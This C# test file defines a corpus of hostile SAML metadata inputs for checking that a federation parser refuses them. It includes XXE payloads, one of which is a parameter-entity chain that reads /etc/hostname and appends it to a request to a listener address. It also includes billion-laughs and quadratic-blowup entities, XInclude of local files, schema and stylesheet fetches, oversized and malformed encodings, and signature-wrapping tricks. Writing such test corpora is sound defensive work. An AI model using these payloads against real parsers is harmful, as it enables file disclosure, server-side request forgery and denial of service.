using System.Text;

namespace SupportConsole.Tests.Federation.Saml.Corpus;

/// <summary>A document that means harm, or is none.</summary>
/// <param name="Name">What it tries.</param>
/// <param name="Code">The cause by which it is refused; null where it is read, and nothing of the trick with it.</param>
/// <param name="Named">What the message names.</param>
/// <param name="Document">The document, for the address of a listener that must hear nothing.</param>
internal sealed record Hostile(string Name, string? Code, string Named, Func<string, byte[]> Document);

/// <summary>Documents that mean harm.</summary>
internal static class HostileMetadata
{
    private const string Open = "<EntityDescriptor xmlns=\"urn:oasis:names:tc:SAML:2.0:metadata\" entityID=\"urn:idp\"";
    private const int Four = 4 * 1024 * 1024;
    private static readonly string Good = IdpShapes.All["duo"];
    private static readonly string Bare = GoodMetadata.WithoutDeclaration(Good);

    public static IReadOnlyList<Hostile> All { get; } =
    [
        // A DOCTYPE in every form.
        Text("doctype alone", "xml.dtd", "DOCTYPE", _ => "<!DOCTYPE EntityDescriptor>" + Bare),
        Text("doctype after the declaration", "xml.dtd", "line 2", _ => "<?xml version=\"1.0\"?>\n<!DOCTYPE EntityDescriptor>" + Bare),
        Text("internal entity", "xml.dtd", "DOCTYPE", _ => $"<!DOCTYPE a [<!ENTITY x \"y\">]>{Open}>&x;</EntityDescriptor>"),
        Text("external entity, http", "xml.dtd", "DOCTYPE", at => $"<!DOCTYPE a [<!ENTITY x SYSTEM \"{at}\">]>{Open}>&x;</EntityDescriptor>"),
        Text("external entity, file", "xml.dtd", "DOCTYPE", _ => $"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>{Open}>&x;</EntityDescriptor>"),
        Text("public external entity", "xml.dtd", "DOCTYPE", at => $"<!DOCTYPE a [<!ENTITY x PUBLIC \"any\" \"{at}\">]>{Open}>&x;</EntityDescriptor>"),
        Text("parameter entity", "xml.dtd", "DOCTYPE", at => $"<!DOCTYPE a [<!ENTITY % p SYSTEM \"{at}\"> %p;]>{Bare}"),
        Text("parameter entity that builds another", "xml.dtd", "DOCTYPE", at => $"<!DOCTYPE a [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '{at}?%f;'>\">%e;%s;]>{Bare}"),
        Text("external DTD", "xml.dtd", "DOCTYPE", at => $"<!DOCTYPE EntityDescriptor SYSTEM \"{at}/metadata.dtd\">{Bare}"),
        Text("public DTD", "xml.dtd", "DOCTYPE", at => $"<!DOCTYPE EntityDescriptor PUBLIC \"-//Acme//DTD//EN\" \"{at}\">{Bare}"),
        Text("billion laughs", "xml.dtd", "DOCTYPE", _ => $"<!DOCTYPE lolz [<!ENTITY l0 \"lol\">{string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">"))}]>{Open}>&l9;</EntityDescriptor>"),
        Text("quadratic blow-up", "xml.dtd", "DOCTYPE", _ => $"<!DOCTYPE a [<!ENTITY x \"{new string('x', 50_000)}\">]>{Open}>{string.Concat(Enumerable.Repeat("&x;", 50_000))}</EntityDescriptor>"),
        Text("attribute defaults from a DTD", "xml.dtd", "DOCTYPE", _ => $"<!DOCTYPE EntityDescriptor [<!ATTLIST EntityDescriptor entityID CDATA \"urn:planted\">]>{Bare}"),
        Text("notation and unparsed entity", "xml.dtd", "DOCTYPE", at => $"<!DOCTYPE a [<!NOTATION n SYSTEM \"{at}\"><!ENTITY x SYSTEM \"{at}\" NDATA n>]>{Bare}"),
        Text("DTD of 4 MB", "xml.dtd", "DOCTYPE", _ => $"<!DOCTYPE a [{Filled("<!ENTITY x \"y\">", Four - 2000)}]>{Bare}"),
        Bytes("DTD in UTF-16", "xml.dtd", "DOCTYPE", at => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes($"<!DOCTYPE a SYSTEM \"{at}\">{Bare}")]),
        Text("DTD behind a comment", "xml.dtd", "DOCTYPE", at => $"<!-- harmless -->\n\n<!DOCTYPE a SYSTEM \"{at}\">{Bare}"),
        Text("undeclared entity", "xml.entity", "entity", _ => $"{Open}>&nbsp;</EntityDescriptor>"),

        // What other readers would fetch.
        Text("XInclude", "metadata.no-idp", "IDPSSODescriptor", at => $"{Open} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"{at}\"/></EntityDescriptor>"),
        Text("XInclude of a file as text", null, "", _ => Bare.Replace("<md:NameIDFormat>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/><md:NameIDFormat>", StringComparison.Ordinal)),
        Text("style sheet", null, "", at => $"<?xml-stylesheet type=\"text/xsl\" href=\"{at}\"?>{Bare}"),
        Text("schema location", null, "", at => With($"xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:oasis:names:tc:SAML:2.0:metadata {at}\"")),
        Text("schema location without namespace", null, "", at => With($"xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"{at}\"")),
        Text("xml:base", null, "", at => With($"xml:base=\"{at}\"")),
        Text("key by reference", "metadata.no-certificate", "X509Certificate", at => Bare.Replace("<X509Data>", $"<RetrievalMethod URI=\"{at}\"/><X509Data>", StringComparison.Ordinal).Replace("X509Certificate", "X509CRL", StringComparison.Ordinal)),
        Text("metadata location to follow", null, "", at => With($"xmlns:x=\"urn:x\" x:AdditionalMetadataLocation=\"{at}\"")),
        Text("XSLT", "metadata.wrong-root", "stylesheet", at => $"<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:include href=\"{at}\"/></xsl:stylesheet>"),

        // Size and shape.
        Text("a million levels deep", "xml.depth", "64", _ => Open + ">" + Filled("<a>", Four - 200)),
        Text("65 levels deep", "xml.depth", "64", _ => Open + ">" + Filled("<a>", 65 * 3) + Filled("</a>", 65 * 4) + "</EntityDescriptor>"),
        Text("100,000 attributes", "xml.attributes", "100,000", _ => $"{Open}><a {string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"a{i}=''"))}/></EntityDescriptor>"),
        Text("257 attributes", "xml.attributes", "257", _ => $"{Open}><a {string.Join(' ', Enumerable.Range(0, 257).Select(i => $"a{i}=''"))}/></EntityDescriptor>"),
        Text("attribute of 4 MB", "xml.attribute-length", "65,536", _ => $"{Open} x=\"{new string('x', Four - 400)}\"/>"),
        Text("attribute that never ends", "xml.attribute-length", "65,536", _ => $"{Open} x=\"{new string('x', Four - 400)}"),
        Text("element name of 4 MB", "xml.name", "4,096", _ => $"{Open}><{new string('n', Four - 400)}/></EntityDescriptor>"),
        Text("root name of 4 MB", "xml.name", "4,096", _ => $"<{new string('n', Four - 400)}/>"),
        Text("attribute name of 4 MB", "xml.name", "4,096", _ => $"{Open} {new string('n', Four - 400)}=\"\"/>"),
        Text("half a million elements", "xml.elements", "40,000", _ => $"{Open}>{Filled("<a></a>", Four - 400)}</EntityDescriptor>"),
        Text("forty thousand names", "metadata.no-idp", "IDPSSODescriptor", _ => $"{Open}>{string.Concat(Enumerable.Range(0, 39_990).Select(i => $"<a{i}/>"))}</EntityDescriptor>"),
        Text("forty thousand namespaces", "metadata.no-idp", "IDPSSODescriptor", _ => $"{Open}>{string.Concat(Enumerable.Range(0, 39_990).Select(i => $"<p:a xmlns:p=\"urn:{i}\"/>"))}</EntityDescriptor>"),
        Text("255 namespaces on each of 1,000 elements", "xml.attributes", "40,000", _ => $"{Open}>{Filled($"<a {string.Join(' ', Enumerable.Range(0, 255).Select(i => $"xmlns:n{i}=\"urn:n{i}\""))}/>", Four - 400)}</EntityDescriptor>"),
        Text("text of 4 MB", "metadata.no-idp", "IDPSSODescriptor", _ => $"{Open}>{new string('x', Four - 400)}</EntityDescriptor>"),
        Text("name ID format of 4 MB", "xml.text", "131,072", _ => $"{Open}><IDPSSODescriptor><NameIDFormat>{new string('x', Four - 400)}</NameIDFormat></IDPSSODescriptor></EntityDescriptor>"),
        Text("certificate of 4 MB", "xml.text", "X509Certificate", _ => Bare.Replace(Keys.First, new string('A', Four - 4000), StringComparison.Ordinal)),
        Text("character data of 4 MB", "metadata.no-idp", "IDPSSODescriptor", _ => $"{Open}><![CDATA[{new string('<', Four - 400)}]]></EntityDescriptor>"),
        Text("comment of 4 MB", null, "", _ => $"<!--{new string('c', Four - Bare.Length - 10)}-->{Bare}"),
        Text("processing instruction of 4 MB", null, "", _ => $"<?p {new string('c', Four - Bare.Length - 10)}?>{Bare}"),
        Text("spaces of 4 MB", null, "", _ => Bare + new string(' ', Four - Encoding.UTF8.GetByteCount(Bare))),
        Text("4 MB and a byte", "xml.too-large", "4,194,305", _ => Bare + new string(' ', Four - Encoding.UTF8.GetByteCount(Bare) + 1)),
        Text("20 MB", "xml.too-large", "4,194,304", _ => new string('<', 20_000_000)),
        Text("thousands of broken identity providers", "xml.entities", "2,000", _ => $"<EntitiesDescriptor xmlns=\"urn:oasis:names:tc:SAML:2.0:metadata\">{Filled("<EntityDescriptor entityID=\"e\"><IDPSSODescriptor/></EntityDescriptor>", Four - 400)}</EntitiesDescriptor>"),
        Text("thousands of broken certificates", "xml.keys", "200 keys", _ => Bare.Replace("<md:KeyDescriptor>", Filled($"<md:KeyDescriptor>{IdpShapes.KeyInfo("MIIB")}</md:KeyDescriptor>", 3_000_000) + "<md:KeyDescriptor>", StringComparison.Ordinal)),
        Text("character references of 4 MB", "xml.text", "131,072", _ => $"{Open}><IDPSSODescriptor><NameIDFormat>{Filled("&#65;", Four - 400)}</NameIDFormat></IDPSSODescriptor></EntityDescriptor>"),

        // Encodings and characters.
        Bytes("UTF-7", "xml.encoding", "UTF-7", _ => Encoding.ASCII.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-a/>")),
        Bytes("UTF-32", "xml.encoding", "UTF-32", _ => [.. Encoding.UTF32.GetPreamble(), .. Encoding.UTF32.GetBytes(Bare)]),
        Bytes("EBCDIC", "xml.encoding", "EBCDIC", _ => [0x4C, 0x6F, 0xA7, 0x94, 0x93]),
        Bytes("Shift-JIS", "xml.encoding", "Shift_JIS", _ => Encoding.ASCII.GetBytes("<?xml version=\"1.0\" encoding=\"Shift_JIS\"?><a/>")),
        Bytes("not the UTF-8 that it says", "xml.encoding", "line 1", _ => [.. Encoding.ASCII.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?><a b=\""), 0xE9, .. "\"/>"u8]),
        Bytes("overlong UTF-8", "xml.encoding", "C0", _ => [.. "<a>"u8, 0xC0, 0xBC, .. "</a>"u8]),
        Bytes("a surrogate in UTF-8", "xml.encoding", "ED", _ => [.. "<a>"u8, 0xED, 0xA0, 0x80, .. "</a>"u8]),
        Bytes("half a surrogate pair in UTF-16", "xml.character", "line 1", _ => [0xFF, 0xFE, .. Utf16($"{Open}>"), 0x00, 0xD8, .. Utf16("x</EntityDescriptor>")]),
        Bytes("UTF-16 cut in a character", "xml.truncated", "UTF-16", _ => [0xFF, 0xFE, .. Utf16(Bare), 0x20]),
        Text("null character", "xml.character", "0x00", _ => $"{Open}>\0</EntityDescriptor>"),
        Text("null reference", "xml.character", "line 1", _ => $"{Open} x=\"&#0;\"/>"),
        Text("reference to a surrogate", "xml.character", "line 1", _ => $"{Open} x=\"&#xD800;\"/>"),
        Bytes("nothing but null bytes", "metadata.not-xml", "begins with", _ => new byte[4096]),
        Bytes("gzip", "xml.compressed", "gzip", _ => [0x1F, 0x8B, 8, 0, 0, 0]),
        Bytes("a certificate", "xml.binary", "certificate", _ => Convert.FromBase64String(Keys.First)),

        // No metadata, or only half of it.
        Text("SVG with a script", "metadata.wrong-root", "SVG", at => $"<svg xmlns=\"http://www.w3.org/2000/svg\"><script href=\"{at}\"/></svg>"),
        Text("HTML", "metadata.html", "HTML", at => $"<!DOCTYPE html><html><head><link href=\"{at}\"></head></html>"),
        Text("HTML behind a comment", "metadata.html", "HTML", at => $"<!-- x --><!doctype html><html><img src=\"{at}\"></html>"),
        Text("RSS", "metadata.wrong-root", "feed", at => $"<rss version=\"2.0\"><channel><link>{at}</link></channel></rss>"),
        Text("WSDL", "metadata.wrong-root", "WSDL", at => $"<definitions xmlns=\"http://schemas.xmlsoap.org/wsdl/\"><import location=\"{at}\"/></definitions>"),
        Text("JSON", "metadata.json", "JSON", at => $"{{\"issuer\":\"{at}\"}}"),
        Text("a JSON list", "metadata.json", "JSON", _ => "[]"),
        Text("PEM", "metadata.pem", "PEM", _ => "-----BEGIN CERTIFICATE-----\nMIIB"),
        Text("escaped XML", "metadata.escaped", "escaped", _ => Bare.Replace("<", "&lt;", StringComparison.Ordinal)),
        Text("an address", "metadata.address", "address", at => at),
        Text("a mail", "metadata.not-xml", "Hi, here", _ => "Hi, here is our metadata: " + Bare),
        Text("truncated in a tag", "xml.truncated", "breaks off", _ => Bare[..(Bare.Length - 30)]),
        Text("truncated in a certificate", "xml.truncated", "breaks off", _ => Bare[..(Bare.IndexOf(Keys.First, StringComparison.Ordinal) + 300)]),
        Text("truncated in an attribute", "xml.truncated", "breaks off", _ => Bare[..(Bare.IndexOf("Location=", StringComparison.Ordinal) + 20)]),
        Text("two documents", "xml.two-roots", "second document", _ => Bare + Bare),
        Text("an attribute twice", "xml.duplicate-attribute", "entityID", _ => $"{Open} entityID=\"urn:other\"/>"),
        Text("an attribute twice by namespace", "xml.duplicate-attribute", "line 1", _ => $"{Open} xmlns:a=\"urn:n\" xmlns:b=\"urn:n\" a:x=\"1\" b:x=\"2\"/>"),
        Text("an undeclared prefix", "xml.namespace", "prefix", _ => "<md:EntityDescriptor entityID=\"a\"/>"),
        Text("tags that cross", "xml.malformed", "line 1", _ => $"{Open}><a><b></a></b></EntityDescriptor>"),
        Text("a browser's view", "xml.malformed", "line 1", _ => "- <EntityDescriptor"[2..] + " entityID=urn:idp></EntityDescriptor>"),

        // Tricks on values.
        Text("comment inside a value", null, "", _ => Bare.Replace("nameid-format:emailAddress", "nameid-format:email<!-- x -->Address", StringComparison.Ordinal)),
        Text("comment inside a certificate", null, "", _ => Bare.Replace(Keys.First, Keys.First.Insert(100, "<!-- x -->"), StringComparison.Ordinal)),
        Text("certificate outside its place", "metadata.no-signing-key", "certificate", _ => $"{Open}>{IdpShapes.KeyInfo(Keys.First)}<IDPSSODescriptor><Extensions><KeyDescriptor>{IdpShapes.KeyInfo(Keys.First)}</KeyDescriptor></Extensions><SingleSignOnService Binding=\"urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect\" Location=\"https://idp.example/\"/></IDPSSODescriptor></EntityDescriptor>"),
        Text("names in another namespace", "metadata.no-idp", "IDPSSODescriptor", _ => Bare.Replace("<md:IDPSSODescriptor", "<md:IDPSSODescriptor xmlns:md='urn:other'", StringComparison.Ordinal).Replace("</md:NameIDFormat>", "</md:NameIDFormat>", StringComparison.Ordinal)),
        Text("entity wrapped in a signature's object", "metadata.no-idp", "IDPSSODescriptor", _ => $"{Open}><Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><Object>{Bare}</Object></Signature></EntityDescriptor>"),
    ];

    private static string With(string attributes) => Bare.Replace("<md:EntityDescriptor ", $"<md:EntityDescriptor {attributes} ", StringComparison.Ordinal);

    private static string Filled(string piece, int length) => new StringBuilder(length).Insert(0, piece, length / piece.Length).ToString();

    private static byte[] Utf16(string text) => Encoding.Unicode.GetBytes(text);

    private static Hostile Text(string name, string? code, string named, Func<string, string> document) => new(name, code, named, at => Encoding.UTF8.GetBytes(document(at)));

    private static Hostile Bytes(string name, string? code, string named, Func<string, byte[]> document) => new(name, code, named, document);
}
